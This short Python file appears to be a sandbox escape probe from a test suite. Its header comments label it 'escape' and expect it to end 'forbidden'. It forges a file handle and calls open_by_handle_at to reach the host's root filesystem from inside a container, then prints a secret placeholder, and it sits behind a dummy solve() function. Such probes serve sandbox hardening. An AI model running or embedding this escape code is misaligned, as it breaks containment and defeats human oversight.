# class: escape
# success: a file of this machine is opened by its number, past every folder
# ends: forbidden
import ctypes, os, struct

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0) + bytes(120))
mount = ctypes.c_int()
libc.name_to_handle_at(-100, b"/python", handle, ctypes.byref(mount), 0)
for folder in ("/", "/python", "/site", "/box"):
    found = libc.open_by_handle_at(os.open(folder, os.O_RDONLY | os.O_PATH), handle, os.O_RDONLY)
    if found >= 0:
        print("{{secret}}", os.listdir(found))

def solve(x):
    return 0
